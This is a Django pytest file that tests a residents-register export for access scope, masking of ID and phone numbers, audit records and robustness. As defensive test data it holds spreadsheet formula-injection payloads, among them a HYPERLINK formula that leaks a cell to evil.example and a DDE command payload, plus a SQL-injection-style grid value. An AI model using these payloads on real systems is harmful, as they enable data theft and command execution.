"""Register exports through HTTP: scope, masking, formula safety, text cells, odd rows, audit, query count."""

import csv
import io
import re
import zipfile
from datetime import date

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from python_calamine import CalamineWorkbook

from alleykeeper.audit.models import AuditEvent
from alleykeeper.core.identity import age_on
from alleykeeper.registry.exports import REGISTER_COLUMNS
from alleykeeper.registry.models import HouseholdKind, Resident
from testkit.world import add_resident, make_household, make_id

pytestmark = pytest.mark.django_db

URL = "/register/export/"
HEADERS = [column.header for column in REGISTER_COLUMNS]
NAME = HEADERS.index("姓名")
ROOM = HEADERS.index("门牌/房号")
DOC = HEADERS.index("证件号码（脱敏）")
PHONE = HEADERS.index("电话（脱敏）")
NOTES = HEADERS.index("备注")
LANDLORD = HEADERS.index("房东姓名")
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-1", "@SUM(A1:A2)", "\tx", "\rx", "\nx"]
HOSTILE += ["＝1+1", " =1+1", "=cmd|' /C calc'!A0"]
FORMULA_START = tuple("=+-@\t\r\n＝＋－＠")


def _export(client, fmt: str = "xlsx", **data):
    response = client.post(URL, {"purpose": "screening", "format": fmt, **data})
    return response


def _body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def _xlsx_rows(response) -> list[list]:
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(_body(response))).get_sheet_by_index(0).to_python()
    assert sheet[0] == HEADERS
    return sheet[1:]


def _xlsx_xml(body: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist())


def _csv_rows(response) -> list[list[str]]:
    body = _body(response)
    assert body.startswith(b"\xef\xbb\xbf"), "Excel needs the UTF-8 BOM to read Chinese"
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows[0] == HEADERS
    return rows[1:]


# persona -> (status, names that must appear); every other name of the world must not appear
MATRIX = {
    "admin": (200, {"王翠琳", "吴晶晶"}),
    "worker_a": (200, {"王翠琳"}),
    "worker_b": (200, {"吴晶晶"}),
    "officer": (200, {"王翠琳", "吴晶晶"}),
    "duty": (403, set()),
    "volunteer": (403, set()),
}
ALL_NAMES = {"王翠琳", "吴晶晶", "陈育玲"}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("persona", list(MATRIX))
def test_export_access_matrix(world, personas, persona, fmt):
    status, expected = MATRIX[persona]
    client = personas[persona]
    assert client.get(URL).status_code == status
    response = _export(client, fmt)
    assert response.status_code == status
    if status != 200:
        assert not AuditEvent.objects.filter(action="register.export").exists()
        return
    rows = _xlsx_rows(response) if fmt == "xlsx" else _csv_rows(response)
    names = {row[NAME] for row in rows}
    assert names == expected and not (names & (ALL_NAMES - expected))


def test_anonymous_gets_login_and_no_file(world, personas):
    response = _export(personas["anonymous"])
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]
    assert not AuditEvent.objects.filter(action="register.export").exists()


@pytest.mark.parametrize(
    ("persona", "grid"),
    [("worker_a", "grid_b"), ("worker_b", "grid_a"), ("admin", "grid_other"), ("officer", "grid_other")],
)
def test_grid_out_of_scope_is_404(world, personas, persona, grid):
    response = _export(personas[persona], grid=getattr(world, grid).pk)
    assert response.status_code == 404
    assert not AuditEvent.objects.filter(action="register.export").exists()


@pytest.mark.parametrize("bad_grid", ["abc", "-1", "99999999", "1 OR 1=1"])
def test_grid_garbage_is_404(world, as_admin, bad_grid):
    assert _export(as_admin, grid=bad_grid).status_code == 404


def test_filters_by_grid_and_kind(world, as_admin):
    rows = _xlsx_rows(_export(as_admin, grid=world.grid_a.pk))
    assert {row[NAME] for row in rows} == {"王翠琳"}
    rows = _xlsx_rows(_export(as_admin, kind=HouseholdKind.RENTAL))
    assert {row[NAME] for row in rows} == {"吴晶晶"}
    assert {row[HEADERS.index("住户类型")] for row in rows} == {"出租"}


def test_nav_shows_export_only_to_roles_with_the_capability(world, as_worker_a, as_duty):
    assert 'href="/register/export/"' in as_worker_a.get("/").content.decode()
    assert 'href="/register/export/"' not in as_duty.get("/").content.decode()


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_is_masked(world, as_admin, fmt):
    add_resident(world.household_a, "座机户", make_id(born="19660606", order="135"), "0595-22123456")
    response = _export(as_admin, fmt)
    body = _body(response)
    text = _xlsx_xml(body) if fmt == "xlsx" else body.decode("utf-8-sig")
    residents = list(Resident.objects.all())
    for resident in residents:
        assert resident.full_document_number() not in text
        assert resident.full_phone() not in text
    assert "22123456" not in text and "13859901234" not in text
    rows = _xlsx_rows(_export(as_admin, fmt)) if fmt == "xlsx" else _csv_rows(_export(as_admin, fmt))
    wang = next(row for row in rows if row[NAME] == "王翠琳")
    assert wang[DOC] == world.household_a.residents.get(name="王翠琳").doc_number_masked
    assert wang[PHONE] == "138****1234"
    assert next(row for row in rows if row[NAME] == "座机户")[PHONE] == "0595-****3456"


def test_id_phone_and_room_cells_are_text(world, as_admin):
    household = make_household(world.grid_a, "5号楼", "0302")
    add_resident(household, "零号", make_id(born="19770707", order="111"), "13000000000", birth_date=date(1977, 7, 7))
    rows = _xlsx_rows(_export(as_admin))
    row = next(row for row in rows if row[NAME] == "零号")
    assert row[ROOM] == "0302"  # a number cell would have lost the leading zero
    assert isinstance(row[DOC], str) and isinstance(row[PHONE], str)
    # The age, a number, not the birth date: beside the masked number it would complete it.
    assert "出生日期" not in HEADERS and row[HEADERS.index("年龄")] == age_on(date(1977, 7, 7), timezone.localdate())
    xml = _xlsx_xml(_body(_export(as_admin)))
    letters = {"ABCDEFGHIJKLMNOPQRSTUVWXYZ"[index] for index in (ROOM, DOC, PHONE)}
    cells = re.findall(r'<c r="([A-Z]+)(\d+)"[^>]*?(?: t="(\w+)")?>', xml)
    typed = [(col, kind) for col, row, kind in cells if col in letters and row != "1"]
    assert typed and all(kind == "inlineStr" for _, kind in typed), typed


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_formula_injection_is_neutralised(world, as_admin, fmt):
    household = make_household(world.grid_a, "=1+1", "+302", HouseholdKind.RENTAL)
    household.landlord_name = "@SUM(A1)"
    household.save(update_fields=["landlord_name"])
    for index, hostile in enumerate(HOSTILE):
        add_resident(household, hostile, notes=hostile, relation="other")
        assert Resident.objects.filter(name=hostile).exists(), index
    rows = _xlsx_rows(_export(as_admin, fmt)) if fmt == "xlsx" else _csv_rows(_export(as_admin, fmt))
    for row in rows:
        for cell in row:
            assert not (isinstance(cell, str) and cell.startswith(FORMULA_START)), (cell, row)
            assert not (isinstance(cell, str) and cell.lstrip(" ").startswith(FORMULA_START)), (cell, row)
    names = {row[NAME] for row in rows}
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"点我")' in names
    assert {"'+1", "'-1", "'@SUM(A1:A2)", "'\tx", "'＝1+1", "' =1+1"} <= names
    hostile_rows = [row for row in rows if row[NAME].startswith("'")]
    assert all(row[LANDLORD] == "'@SUM(A1)" for row in hostile_rows)
    assert all(row[ROOM] == "'+302" for row in hostile_rows)
    if fmt == "xlsx":
        assert "<f>" not in _xlsx_xml(_body(_export(as_admin, fmt)))  # no formula cell anywhere


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_odd_rows_never_break_the_export(world, as_admin, fmt):
    nul = "\x00" if connection.vendor == "sqlite" else ""  # PostgreSQL cannot store NUL at all
    odd = {
        f"控制{nul}字符\x07\x1b\x01": "控制字符",
        "表情👨‍👩‍👧🦠": "表情👨‍👩‍👧🦠",
        "长备注": "很长" * 30_000,  # 60,000 characters: beyond Excel's 32,767 per cell
        "换行": "第一行\r\n第二行",
        '引号"逗号,': 'a"b,c',
    }
    for name, notes in odd.items():
        add_resident(world.household_a, name, notes=notes, relation="other")
    response = _export(as_admin, fmt)
    assert response.status_code == 200
    rows = _xlsx_rows(response) if fmt == "xlsx" else _csv_rows(response)
    by_name = {row[NAME]: row for row in rows}
    assert "控制字符" in by_name  # control characters removed, the row kept
    assert by_name["表情👨‍👩‍👧🦠"][NOTES] == "表情👨‍👩‍👧🦠"
    long_notes = by_name["长备注"][NOTES]
    assert len(long_notes) <= 32_767 and long_notes.endswith("（已截断）")
    assert by_name["换行"][NOTES].replace("\r", "") == "第一行\n第二行"  # line breaks inside a cell are fine
    assert by_name['引号"逗号,'][NOTES] == 'a"b,c'
    event = AuditEvent.objects.get(action="register.export")
    assert event.row_count == len(rows) == 2 + len(odd)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_is_audited_with_purpose_scope_and_row_count(world, as_worker_a, fmt):
    add_resident(world.household_a, "李明", make_id(born="19950505", order="333"), "13500001111")
    response = _export(as_worker_a, fmt, purpose="report_upward")
    rows = _xlsx_rows(response) if fmt == "xlsx" else _csv_rows(response)
    event = AuditEvent.objects.get(action="register.export")
    assert event.actor == world.worker_a and event.purpose == "report_upward"
    assert event.row_count == len(rows) == 2
    assert "第一网格" in event.scope and "第二网格" not in event.scope
    assert event.detail["format"] == fmt
    record = str(AuditEvent.objects.filter(pk=event.pk).values().get())
    for resident in Resident.objects.all():
        assert resident.full_document_number() not in record and resident.full_phone() not in record
    assert response["Cache-Control"] == "no-store"
    assert "attachment" in response["Content-Disposition"] and f".{fmt}" in response["Content-Disposition"]


def test_scope_names_the_filters(world, as_admin):
    _body(_export(as_admin, grid=world.grid_b.pk, kind="rental"))
    event = AuditEvent.objects.get(action="register.export")
    assert event.scope == "网格：第二网格；住户类型：出租" and event.row_count == 1


@pytest.mark.parametrize("purpose", [None, "", "for fun", "<script>"])
def test_missing_or_unknown_purpose_gives_a_clear_message_and_no_file(world, as_admin, purpose):
    data = {"format": "xlsx"} if purpose is None else {"format": "xlsx", "purpose": purpose}
    response = as_admin.post(URL, data)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    page = response.content.decode()
    assert "请选择导出用途" in page or "请从列表中选择导出用途" in page
    assert "王翠琳" not in page
    assert not AuditEvent.objects.filter(action="register.export").exists()


def test_unknown_format_and_kind_are_refused(world, as_admin):
    assert _export(as_admin, "pdf").status_code == 400
    response = _export(as_admin, kind="palace")
    assert response.status_code == 400 and "住户类型" in response.content.decode()
    assert not AuditEvent.objects.filter(action="register.export").exists()


def _queries_for(client, fmt: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        _body(_export(client, fmt))  # the test client closes the response when its content is consumed
    return len(queries)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_query_count_does_not_grow_with_rows(world, as_admin, django_assert_max_num_queries, fmt):
    few = _queries_for(as_admin, fmt)
    for room in range(30):
        household = make_household(world.grid_a, f"{room % 3}号楼", f"{room + 1}01", HouseholdKind.RENTAL)
        add_resident(household, f"居民{room}", make_id(born="19800101", order=f"{room + 400:03d}"), "13700000000")
        add_resident(household, f"家属{room}", relation="spouse")
    many = _queries_for(as_admin, fmt)
    assert many == few
    with django_assert_max_num_queries(10):
        _body(_export(as_admin, fmt))


def test_xlsx_over_the_row_limit_is_refused_with_a_way_out(world, as_admin, settings):
    settings.EXPORT_XLSX_MAX_ROWS = 1
    response = _export(as_admin, "xlsx")
    assert response.status_code == 400
    page = response.content.decode()
    assert "超过 Excel 导出的上限 1 行" in page and "CSV" in page
    assert not AuditEvent.objects.filter(action="register.export").exists()
    assert len(_csv_rows(_export(as_admin, "csv"))) == 2  # CSV streams: no limit
    assert AuditEvent.objects.get(action="register.export").row_count == 2
